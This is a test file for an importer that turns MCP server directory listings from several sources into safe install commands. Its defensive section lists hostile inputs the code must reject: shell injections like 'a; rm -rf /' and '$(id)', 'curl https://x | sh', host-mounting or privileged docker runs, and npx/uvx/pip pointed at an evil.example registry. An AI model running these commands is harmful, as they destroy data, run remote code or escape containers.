import { existsSync, globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { fallbackCommand, installCommand, shellWord, statedCommand } from '../../../../subgraphs/directory/import/command.ts'
import type { ContributionFormat, Statement } from '../../../../subgraphs/directory/import/contribution.ts'
import { parse } from '../../../../subgraphs/directory/import/parse.ts'
import { readers } from '../../../../subgraphs/directory/import/readers.ts'
import { cleanTags, cleanText, slugOf } from '../../../../subgraphs/directory/import/text.ts'
import { cleanUrl, repositoryOf } from '../../../../subgraphs/directory/import/url.ts'
import { compareVersions } from '../../../../subgraphs/directory/import/version.ts'

const SHARED = join(import.meta.dirname, '../../../../../shared/data/directory/mcp')

/** Reads a file as an import does; fails unless exactly one format recognises it. */
function readText(path: string, text: string) {
  const parsed = parse(path, new TextEncoder().encode(text))
  if ('fault' in parsed) throw new Error(`${path} ${parsed.fault.reason}`)
  const file = { origin: 'some/origin', path, text: parsed.text }
  const matching = readers.filter((reader) => reader.recognises(parsed.content, file))
  expect(matching.map(({ format }) => format)).toHaveLength(1)
  const [reader] = matching
  if (!reader) throw new Error('no reader')
  return { format: reader.format, ...reader.read(parsed.content, file) }
}
const read = (path: string, content: unknown) => readText(path, JSON.stringify(content))
const serverIn = (path: string, content: unknown): Extract<Statement, { kind: 'MCP_SERVER' }> => {
  const { contributions, skipped } = read(path, content)
  expect(skipped).toEqual([])
  const statement = contributions[0]?.statement
  if (statement?.kind !== 'MCP_SERVER') throw new Error('no server')
  return statement
}

const CURRENT = {
  $schema: 'https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json',
  name: 'io.github.acme/rocket',
  title: 'Rocket',
  description: 'Launches things',
  version: '1.2.3',
  websiteUrl: 'https://rocket.example/docs',
  repository: { url: 'https://github.com/Acme/Rocket.git', source: 'github' },
  packages: [
    {
      registryType: 'npm',
      identifier: '@acme/rocket',
      version: '1.2.3',
      transport: { type: 'stdio' },
      environmentVariables: [
        { name: 'ROCKET_KEY', description: 'The key', isRequired: true, isSecret: true },
        { name: 'not a name', isRequired: true },
      ],
    },
  ],
}
const OLD = {
  id: '1',
  name: 'io.github.acme/rocket',
  description: 'Launches things',
  repository: { url: 'https://github.com/acme/rocket', source: 'github', id: '1' },
  version_detail: { version: '0.0.1', release_date: '2025-05-16T00:00:00Z', is_latest: true },
  packages: [{ registry_name: 'pypi', name: 'rocket', version: '', environment_variables: [{ name: 'KEY', is_required: true }] }],
}
const TOOLSDK = {
  type: 'mcp-server',
  packageName: '@acme/rocket',
  description: 'x',
  url: 'https://github.com/acme/rocket',
  runtime: 'node',
  license: 'MIT',
  env: { KEY: { description: 'k', required: true } },
}
const TENSORBLOCK = {
  id: 'github-acme-rocket-0123abcd',
  name: 'acme/rocket',
  description: 'x',
  category: 'Space',
  links: {
    primary: 'https://github.com/acme/rocket',
    repo: 'https://github.com/acme/rocket',
    homepage: null,
    docs: null,
    endpoint: null,
  },
  install: { commands: ['npx -y @acme/rocket'], env: ['KEY'] },
  transport: ['unknown'],
}
const MCPM = {
  name: 'rocket',
  display_name: 'Rocket',
  description: 'x',
  repository: { type: 'git', url: 'https://github.com/acme/rocket' },
  categories: ['Space'],
  tags: ['Moon', 'moon'],
  installations: { uvx: { type: 'uvx', command: 'uvx', args: ['rocket-mcp'] } },
  arguments: { KEY: { description: 'k', required: true, example: 'x' } },
  is_official: true,
}
const DOCKER = `
name: rocket
image: mcp/rocket
type: server
meta: { category: space, tags: [moon] }
about: { title: Rocket, description: x }
source: { project: https://github.com/acme/rocket }
config:
  - secrets: [{ name: rocket.key, env: ROCKET_KEY }]
    env: [{ name: ROCKET_URL, value: '{{rocket.url}}' }, { name: ROCKET_MODE, value: '{{rocket.mode}}' }]
    parameters: { type: object, properties: { url: { type: string } }, required: [url] }
`
const TOOLHIVE = `
description: x
tier: Official
status: Deprecated
transport: sse
repository_url: https://github.com/acme/rocket
image: ghcr.io/acme/rocket:1.0
target_port: 8000
args: [--transport, sse]
metadata: { stars: 42, pulls: 7 }
tags: [moon]
env_vars: [{ name: KEY, required: true, secret: true }]
`

describe('each format, detected by content', () => {
  const rocket = { identity: 'github.com/acme/rocket' }

  test.each<[string, ContributionFormat, string, string, object]>([
    [
      'a current server.json',
      'registry',
      'any.json',
      JSON.stringify(CURRENT),
      {
        ...rocket,
        key: 'Acme/Rocket',
        name: 'Rocket',
        transport: 'stdio',
        installCommand: 'npx -y @acme/rocket@1.2.3',
        docsUrl: 'https://rocket.example/docs',
        envVars: [{ name: 'ROCKET_KEY', required: true, secret: true, description: 'The key' }],
      },
    ],
    [
      'a record of the old seed',
      'registry',
      'any.json',
      JSON.stringify([OLD]),
      {
        ...rocket,
        transport: 'stdio',
        installCommand: 'uvx rocket',
        envVars: [{ name: 'KEY', required: true, secret: false, description: null }],
      },
    ],
    [
      'toolsdk',
      'toolsdk',
      'packages/space/rocket.json',
      JSON.stringify(TOOLSDK),
      { ...rocket, category: 'space', installCommand: 'npx -y @acme/rocket', transport: 'stdio' },
    ],
    [
      'TensorBlock',
      'tensorblock',
      'x.json',
      JSON.stringify(TENSORBLOCK),
      { ...rocket, name: null, transport: 'stdio', category: 'Space', installCommand: 'npx -y @acme/rocket' },
    ],
    [
      'mcpm',
      'mcpm',
      'x.json',
      JSON.stringify(MCPM),
      { ...rocket, name: 'Rocket', official: true, tags: ['moon'], installCommand: 'uvx rocket-mcp' },
    ],
    [
      'docker',
      'docker',
      'x.yaml',
      DOCKER,
      {
        ...rocket,
        category: 'space',
        installCommand: 'docker run -i --rm -e ROCKET_KEY -e ROCKET_URL -e ROCKET_MODE mcp/rocket',
        envVars: [
          { name: 'ROCKET_KEY', required: true, secret: true, description: null },
          { name: 'ROCKET_URL', required: true, secret: false, description: null },
          { name: 'ROCKET_MODE', required: false, secret: false, description: null },
        ],
      },
    ],
    [
      'toolhive',
      'toolhive',
      'registry/rocket/spec.yaml',
      TOOLHIVE,
      {
        ...rocket,
        stars: 42,
        official: true,
        deprecated: true,
        transport: 'sse',
        installCommand: 'docker run -i --rm -p 127.0.0.1:8000:8000 -e KEY ghcr.io/acme/rocket:1.0 --transport sse',
      },
    ],
    [
      'mcp-get',
      'mcp-get',
      'x.json',
      JSON.stringify([
        {
          name: '@acme/rocket',
          description: 'x',
          vendor: 'Acme',
          sourceUrl: 'https://github.com/acme/rocket',
          homepage: 'https://rocket.example',
          license: 'MIT',
          runtime: 'node',
          environmentVariables: { KEY: { description: 'k', required: true } },
        },
      ]),
      { ...rocket, installCommand: 'npx -y @acme/rocket', docsUrl: 'https://rocket.example' },
    ],
  ])('%s', (_, format, path, text, expected) => {
    const answer = readText(path, text)
    expect(answer.skipped).toEqual([])
    expect(answer.format).toBe(format)
    expect(answer.contributions[0]?.statement).toMatchObject(expected)
  })

  test('a list in a README: entries under headings, what is no repository is reported with its line', () => {
    const text = `# Awesome MCP\n\n## 🚀 Space\n- [acme/rocket](https://github.com/acme/rocket) 🐍 - Launches **things**\n* [one](https://github.com/a/one) — first\n- [two](https://github.com/a/two)\n- [three](https://github.com/a/three) three\n- [contents](#space)\n## Web\n- [remote](https://remote.example/mcp)\n`
    const { format, contributions, skipped } = readText('README.md', text)
    expect(format).toBe('readme')
    expect(contributions.map(({ statement }) => [statement.identity, statement.category, statement.description])).toEqual([
      ['github.com/acme/rocket', 'Space', 'Launches **things**'],
      ['github.com/a/one', 'Space', 'first'],
      ['github.com/a/two', 'Space', null],
      ['github.com/a/three', 'Space', 'three'],
    ])
    expect(skipped).toMatchObject([{ line: 10, reason: 'has neither a repository nor another address' }])
  })
})

test('a README that lists something twice, or in a line without end, says so', () => {
  const entry = (name: string, text = '') => `- [${name}](https://github.com/acme/${name}) ${text}\n`
  const names = ['one', 'two', 'three', 'four', 'five']
  const text = `# Awesome MCP\n${names.map((name) => entry(name)).join('')}${entry('two', 'again')}${entry('six', 'x'.repeat(3_000))}`
  const { contributions, skipped } = readText('README.md', text)
  expect(contributions).toHaveLength(5)
  expect(skipped).toMatchObject([
    { line: 8, reason: 'is longer than 2000 characters' },
    { line: 7, reason: 'is listed twice: the first counts' },
  ])
})

test('entries of a README that are no servers are reported with their lines, whatever form the others have', () => {
  const text = [
    '# Awesome MCP',
    '## Servers',
    '- **[one](https://github.com/acme/one)** - first',
    '- ⭐ [![badge](https://e.org/b.svg)](https://e.org) [two](https://github.com/acme/two) second',
    '- <img src="x.png"> [three](https://github.com/acme/three)',
    '1. [four](https://github.com/acme/four)',
    '- Read more at https://e.org/more',
    '- [python-sdk](https://github.com/acme/python-sdk)',
    '## Client libraries',
    '- [five](https://github.com/acme/five)',
  ].join('\n')
  const { contributions, skipped } = readText('README.md', text)
  expect(contributions.map(({ statement }) => statement.identity)).toEqual([
    'github.com/acme/one',
    'github.com/acme/two',
    'github.com/acme/three',
    'github.com/acme/four',
  ])
  expect(skipped).toMatchObject([
    { line: 7, reason: 'is no entry that begins with a link' },
    { line: 8, reason: 'is a library, not a server' },
    { line: 10, reason: 'stands in a section that lists no servers' },
  ])
})

test.each([
  ['npm', '@acme/rocket', 'acme/rocket', 'https://www.npmjs.com/package/@acme/rocket'],
  ['pypi', 'rocket-mcp', 'pypi/rocket-mcp', 'https://pypi.org/project/rocket-mcp'],
  ['oci', 'ghcr.io/acme/rocket', 'acme/rocket', 'https://ghcr.io/acme/rocket'],
])('a server that is only a package of %s is known by it', (registryType, identifier, key, docsUrl) => {
  const packages = [{ registryType, identifier, transport: { type: 'stdio' } }]
  const { repository: _, websiteUrl: __, ...rest } = CURRENT
  expect(serverIn('server.json', { ...rest, packages })).toMatchObject({
    identity: `${registryType}:${identifier}`,
    key,
    docsUrl,
    repoUrl: null,
  })
})

test('a remote URL with placeholders is identified by its constant part', () => {
  const { repository: _, packages: __, websiteUrl: ___, ...rest } = CURRENT
  const remotes = [{ type: 'streamable-http', url: 'https://{tenant}.rocket.example/mcp' }]
  expect(serverIn('server.json', { ...rest, remotes })).toMatchObject({
    owner: 'rocket.example',
    docsUrl: 'https://rocket.example',
  })
})

test('an image with folders and arguments keeps them, with words for what the reader chooses', () => {
  const text = DOCKER.replace(
    'config:',
    `run:
  command: ['{{rocket.paths|volume-target|into}}', '--mode={{rocket.mode}}', '--fast']
  volumes: ['{{rocket.paths|volume|into}}', 'rocket-cache:/cache']
  ports: ['8355:8355']
config:`,
  ).replace('required: [url]', 'required: [url, paths, mode]')
  expect(readText('x.yaml', text).contributions[0]?.statement).toMatchObject({
    installCommand:
      'docker run -i --rm -p 127.0.0.1:8355:8355 -v /path/to/paths:/path/to/paths -v rocket-cache:/cache -e ROCKET_KEY -e ROCKET_URL -e ROCKET_MODE mcp/rocket /path/to/paths --mode=YOUR_MODE --fast',
  })
  const opening = text.replace('rocket-cache:/cache', '/:/host')
  expect(readText('x.yaml', opening).contributions[0]?.statement).toMatchObject({
    installCommand: 'docker mcp server enable rocket',
  })
})

test('every package and remote of a server.json is an installation; empty values are dropped', () => {
  const { installations } = serverIn('server.json', {
    ...CURRENT,
    packages: [
      {
        registryType: 'oci',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: published files have it
        identifier: 'ghcr.io/acme/rocket:${VERSION}',
        runtimeArguments: [
          { type: 'named', name: '-p', value: '127.0.0.1:8085:8085' },
          { type: 'named', name: '-e', value: 'ROCKET_TOKEN={token}', variables: { token: { isSecret: true } } },
        ],
        packageArguments: [
          { type: 'positional', value: 'serve' },
          { type: 'named', name: '--verbose' },
        ],
      },
    ],
    remotes: [{ type: 'streamable-http', url: 'https://mcp.rocket.example/mcp' }],
  })
  expect(installations).toEqual([
    {
      command: 'docker run -i --rm -p 127.0.0.1:8085:8085 -e ROCKET_TOKEN ghcr.io/acme/rocket serve',
      transport: 'stdio',
    },
    { command: 'claude mcp add --transport http rocket https://mcp.rocket.example/mcp', transport: 'streamable-http' },
  ])
})

test('a list of mcp-get keeps its good rows when one is bad', () => {
  const row = (name: string) => ({ name, vendor: 'Acme', sourceUrl: `https://github.com/acme/${name}`, runtime: 'node' })
  const { contributions, skipped } = read('x.json', [row('one'), { name: 3 }, row('two'), null])
  expect(contributions.map(({ statement }) => statement.identity)).toEqual(['github.com/acme/one', 'github.com/acme/two'])
  expect(skipped.map(({ reason }) => reason)).toEqual(['[1] is no record of a package', '[3] is no record of a package'])
})

describe('mcpm', () => {
  const started = (args: readonly string[], command = 'npx') =>
    serverIn('x.json', { ...MCPM, installations: { custom: { type: 'custom', command, args } } }).installCommand

  test('an argument with a blank does not fall apart: the package alone is started', () => {
    expect(started(['-y', '@acme/rocket', '--title', 'my rocket'])).toBe('npx -y @acme/rocket')
    expect(started(['-y', '@acme/rocket', '--title', 'rocket'])).toBe('npx -y @acme/rocket --title rocket')
  })

  test('placeholders are not pasted', () => {
    expect(started(['-y', '@acme/rocket', '/path/to/files'])).toBe('npx -y @acme/rocket')
    expect(started(['-y', '@acme/rocket', '--key', 'your-key'])).toBe('npx -y @acme/rocket')
  })

  test('servers of a monorepo are identified by their packages, as in other sources', () => {
    const repository = { type: 'git', url: 'https://github.com/modelcontextprotocol/servers' }
    const identityOf = (name: string, packaged: string) => {
      const installations = { npm: { type: 'npm', command: 'npx', args: ['-y', packaged] } }
      return serverIn('x.json', { ...MCPM, name, repository, installations }).identity
    }
    expect(identityOf('version-control', '@modelcontextprotocol/server-git')).toMatch(/#git$/)
    expect(identityOf('clock', '@modelcontextprotocol/server-time')).toMatch(/#time$/)
  })
})

describe('the registry', () => {
  const version = (number: string, official: object = {}) => ({
    server: { ...CURRENT, version: number, title: number },
    _meta: { 'io.modelcontextprotocol.registry/official': official },
  })
  const titles = (servers: readonly object[]) =>
    read('x.json', { servers, metadata: {} }).contributions.map(({ statement }) => statement.name)

  test('keeps the version that is marked as latest, else the highest', () => {
    expect(titles([version('2.0.0'), version('1.0.0', { isLatest: true })])).toEqual(['1.0.0'])
    expect(titles([version('1.9.0'), version('1.10.0'), version('1.10.0-beta.1')])).toEqual(['1.10.0'])
    expect(titles([version('later', { publishedAt: '2026-02-01' }), version('sooner', { publishedAt: '2026-01-01' })])).toEqual([
      'later',
    ])
  })

  test('drops what is deleted, and marks what is deprecated', () => {
    const { contributions, skipped } = read('x.json', { servers: [version('1.0.0', { status: 'deleted' })], metadata: {} })
    expect(contributions).toEqual([])
    expect(skipped).toMatchObject([{ reason: 'servers[0]: is marked as deleted' }])
    expect(
      read('x.json', { servers: [version('1.0.0', { status: 'deprecated' })], metadata: {} }).contributions[0]?.statement,
    ).toMatchObject({ deprecated: true })
  })

  test('a remote server without a repository is known by its address', () => {
    const { repository: _, packages: __, websiteUrl: ___, ...rest } = CURRENT
    expect(
      serverIn('x.json', { ...rest, remotes: [{ type: 'streamable-http', url: 'https://mcp.rocket.example/mcp' }] }),
    ).toMatchObject({
      identity: 'remote:mcp.rocket.example/mcp',
      key: 'rocket.example/rocket',
      transport: 'streamable-http',
      installCommand: 'claude mcp add --transport http rocket https://mcp.rocket.example/mcp',
      docsUrl: 'https://mcp.rocket.example/mcp',
    })
  })

  test.each([
    ['1.10.0', '1.9.0', 1],
    ['1.0.0-rc.1', '1.0.0', -1],
    ['v2.0.0', '2.0.0', 0],
    ['latest', '1.0.0', null],
  ])('%s against %s', (one, other, order) => {
    expect(compareVersions(one, other)).toBe(order)
  })
})

describe('one server under several descriptions', () => {
  test.each([
    ['@modelcontextprotocol/server-filesystem', 'https://github.com/modelcontextprotocol/servers'],
    ['whatever', 'https://github.com/modelcontextprotocol/servers/tree/main/src/filesystem'],
    ['mcp-server-filesystem', 'git@github.com:modelcontextprotocol/servers-archived.git'],
  ])('%s at %s is the filesystem server', (packageName, url) => {
    expect(serverIn('p/c/x.json', { ...TOOLSDK, packageName, url })).toMatchObject({
      identity: 'github.com/modelcontextprotocol/servers#filesystem',
    })
  })

  test('a label made up by a collector identifies no server', () => {
    const url = 'https://github.com/ModelContextProtocol/servers/'
    expect(serverIn('p/c/x.json', { ...TOOLSDK, packageName: 'filesystem', url })).toMatchObject({
      identity: 'github.com/modelcontextprotocol/servers',
      labels: expect.arrayContaining(['filesystem']),
    })
  })

  test('neighbours in a repository of many stay apart', () => {
    const url = 'https://github.com/awslabs/mcp'
    expect(serverIn('p/c/x.json', { ...TOOLSDK, packageName: 'awslabs.cdk-mcp-server', url })).toMatchObject({
      identity: 'github.com/awslabs/mcp#cdk',
      key: 'awslabs/cdk',
    })
    expect(serverIn('p/c/x.json', { ...TOOLSDK, packageName: 'awslabs.nova-canvas-mcp-server', url })).toMatchObject({
      key: 'awslabs/nova-canvas',
    })
  })

  test("GitHub's own server is official, under its own key", () => {
    const repository = { url: 'https://github.com/github/github-mcp-server' }
    const packages = [{ registryType: 'oci', identifier: 'ghcr.io/github/github-mcp-server' }]
    expect(serverIn('x.json', { ...CURRENT, repository, packages })).toMatchObject({
      key: 'github/github-mcp-server',
      official: true,
    })
  })
})

describe('descriptions are plain text', () => {
  test.each([
    ['<a href="https://e.org"><img width="9" src="x.png"></a> Launches <b>things</b>', 'Launches things'],
    ['<img width="150px" src="https://e.org/cut-off-in-the-mid', null],
    ['![badge](https://e.org/b.svg) Needs <token> and Array<string>', 'Needs <token> and Array<string>'],
  ])('%s', (description, text) => {
    expect(serverIn('p/c/x.json', { ...TOOLSDK, description }).description).toBe(text)
  })
})

test('a page of a forge that is no repository says whose it is', () => {
  expect(serverIn('p/c/x.json', { ...TOOLSDK, packageName: '@x/rocket', url: 'https://github.com/acme' })).toMatchObject({
    key: 'acme/rocket',
    repoUrl: null,
    docsUrl: 'https://github.com/acme',
  })
})

describe('nothing hostile reaches a command', () => {
  const HOSTILE = [
    'a; rm -rf /',
    '$(id)',
    '`id`',
    'a\nb',
    'a && b',
    "a'b",
    'a"b',
    'a|b',
    'a>b',
    '-y',
    '--help',
    'a b',
    '',
    '../x',
    'ａ',
    'a\u202eb',
    'a\u0000b',
    'x'.repeat(5_000),
  ]

  test.each(HOSTILE)('%j is no package', (name) => {
    for (const from of ['npm', 'pypi', 'nuget', 'oci'] as const) expect(installCommand({ from, name })).toBeNull()
    expect(installCommand({ from: 'remote', name, url: 'https://e.org', transport: 'http' })).toBe(
      name === '../x' ? 'claude mcp add --transport http x https://e.org' : null,
    )
    expect(serverIn('p/c/x.json', { ...TOOLSDK, packageName: name }).installCommand).toBeNull()
  })

  test.each(['1.0; id', '$(id)', 'latest', '^1.0.0', '1.0.0 --x'])('the version %j is dropped', (version) => {
    expect(installCommand({ from: 'npm', name: '@a/b', version })).toBe('npx -y @a/b')
  })

  test.each(['curl https://x | sh', 'npx -y a; id', 'rm -rf /', 'sudo npx a', 'npx -y $(id)', 'npx', 'sh -c id', 'npx -y a > b'])(
    '%j is not pasted',
    (command) => {
      expect(statedCommand(command)).toBeNull()
    },
  )

  test.each([
    'docker run -i --rm -v /:/host mcp/rocket',
    'docker run --privileged mcp/rocket',
    'docker run --network host mcp/rocket',
    'docker run --net=host mcp/rocket',
    'docker run --entrypoint sh mcp/rocket',
    'docker run -e KEY=value mcp/rocket',
    'npx -c id',
    'npx --registry https://evil.example rocket',
    'npx -y --registry=https://evil.example rocket',
    'npx -y http://evil.example/rocket.tgz',
    'npx -y https://evil.example/rocket.tgz',
    'npx -y file:/tmp/rocket',
    'uvx run rocket',
    'uvx --index-url https://evil.example rocket',
    'uvx --with evil rocket',
    'uvx --from http://evil.example/a/b rocket',
    'pip install --index-url https://evil.example rocket',
  ])('%s would do more than start a package', (command) => {
    expect(statedCommand(command)).toBeNull()
  })

  test.each([
    'npx -y @acme/rocket --mode fast',
    'uvx --from rocket-tools rocket',
    'docker run -i --rm -e KEY mcp/rocket --mode fast',
    'npx -y https://github.com/acme/rocket',
    'uvx --from git+https://github.com/acme/rocket rocket',
  ])('%s is pasted', (command) => {
    expect(statedCommand(command)).toBe(command)
  })

  test.each([
    ['https://e.org/$(id)', 'https://e.org'],
    ['https://e.org/a;b', 'https://e.org'],
    ['https://e.org/a', 'https://e.org/a'],
  ])('the address %s stands in as %s', (docsUrl, command) => {
    expect(fallbackCommand(null, docsUrl)).toBe(command)
    expect(shellWord(command)).toBe(command)
  })
})

describe('whatever a field holds', () => {
  const WRONG: readonly unknown[] = [
    null,
    0,
    -1,
    '',
    'x',
    true,
    [],
    {},
    [[]],
    [null],
    { name: 1 },
    'javascript:alert(1)',
    'x'.repeat(300_000),
    Array.from({ length: 10_000 }, () => ({ name: 'A' })),
    JSON.parse('{"__proto__": {"name": "x"}, "constructor": 1}'),
  ]
  const SAMPLES: readonly Readonly<Record<string, unknown>>[] = [CURRENT, OLD, TOOLSDK, TENSORBLOCK, MCPM]

  test('a reader neither throws nor lets a wrong address through', () => {
    for (const sample of SAMPLES) {
      for (const field of Object.keys(sample)) {
        for (const value of WRONG) {
          // As an import parses it: objects without a prototype.
          const parsed = parse('p/c/x.json', new TextEncoder().encode(JSON.stringify({ ...sample, [field]: value })))
          if ('fault' in parsed) throw new Error(parsed.fault.reason)
          const { content } = parsed
          const file = { origin: 'a/b', path: 'p/c/x.json', text: '' }
          for (const reader of readers.filter((one) => one.recognises(content, file))) {
            for (const { statement } of reader.read(content, file).contributions) {
              if (statement.kind !== 'MCP_SERVER') continue
              for (const url of [statement.docsUrl, statement.repoUrl]) if (url !== null) expect(url).toMatch(/^https?:\/\/[^/]/)
              expect(statement.key).toMatch(/^[A-Za-z0-9_][A-Za-z0-9._-]*\/[A-Za-z0-9_][A-Za-z0-9._-]*$/)
              expect(statement.description?.length ?? 0).toBeLessThanOrEqual(2_000)
              expect(statement.envVars.length).toBeLessThanOrEqual(100)
            }
          }
        }
      }
    }
  })
})

describe('text, addresses and names', () => {
  test.each([
    ['a\u202eb\u200bc', 'abc'],
    ['  a\n\tb ', 'a b'],
    ['\u0000', null],
    ['e\u0301', 'é'],
    [7, null],
  ])('%j becomes %j', (value, text) => {
    expect(cleanText(value, 100)).toBe(text)
  })

  test('a cut never splits a character', () => {
    expect(cleanText('ab💥', 3)).toBe('ab')
  })

  test.each([
    'javascript:alert(1)',
    'file:///etc/passwd',
    'https://',
    '//e.org',
    'https://user:pass@e.org',
    'ssh://git@e.org',
    '',
    5,
  ])('%j is no address', (value) => {
    expect(cleanUrl(value)).toBeNull()
  })

  test.each([
    ['git@github.com:a/b.git', 'a/b'],
    ['git+https://github.com/a/b.git', 'a/b'],
    ['https://www.github.com/a/b/', 'a/b'],
    ['https://github.com/a/b/tree/main/src/c', 'a/b/src/c'],
    ['https://github.com/a/b/blob/HEAD/README.md', 'a/b/README.md'],
    ['https://github.com/a', null],
    ['https://github.com/a/..', null],
    ['https://evil.example/github.com/a/b', null],
  ])('%s is the repository %s', (address, expected) => {
    const found = repositoryOf(address)
    expect(found && [found.owner, found.repo, found.subfolder].filter(Boolean).join('/')).toBe(expected)
  })

  test('tags are lower-case and once; slugs are plain', () => {
    expect(cleanTags(['B', 'b', 'a', 5, ''])).toEqual(['b', 'a'])
    expect(slugOf('Crème Brûlée -- v2!')).toBe('creme-brulee-v2')
  })
})

describe('the real data', () => {
  const files = existsSync(SHARED) ? globSync('**/*.{json,yaml}', { cwd: SHARED }) : []

  test.skipIf(files.length === 0)(
    `is recognised by exactly one format${files.length === 0 ? ' (skipped: ../shared/data/directory is absent)' : ''}`,
    () => {
      const counts = new Map<string, number>()
      const unknown: string[] = []
      for (const path of files) {
        const parsed = parse(path, readFileSync(join(SHARED, path)))
        if ('fault' in parsed) throw new Error(path)
        const file = { origin: 'a/b', path, text: parsed.text }
        const matching = readers.filter((reader) => reader.recognises(parsed.content, file))
        if (matching.length === 0) unknown.push(path)
        expect(matching.length, path).toBeLessThanOrEqual(1)
        const [reader] = matching
        if (reader)
          counts.set(reader.format, (counts.get(reader.format) ?? 0) + reader.read(parsed.content, file).contributions.length)
      }
      expect(unknown.toSorted()).toEqual([
        'modelcontextprotocol+registry/docs/openapi.yaml',
        'modelcontextprotocol+registry/docs/server-json/schema.json',
      ])
      expect(Object.fromEntries(counts)).toMatchObject({ toolsdk: 3383, tensorblock: 2000, toolhive: 45, docker: 328, mcpm: 380 })
      expect(counts.get('registry')).toBeGreaterThanOrEqual(465)
    },
  )
})
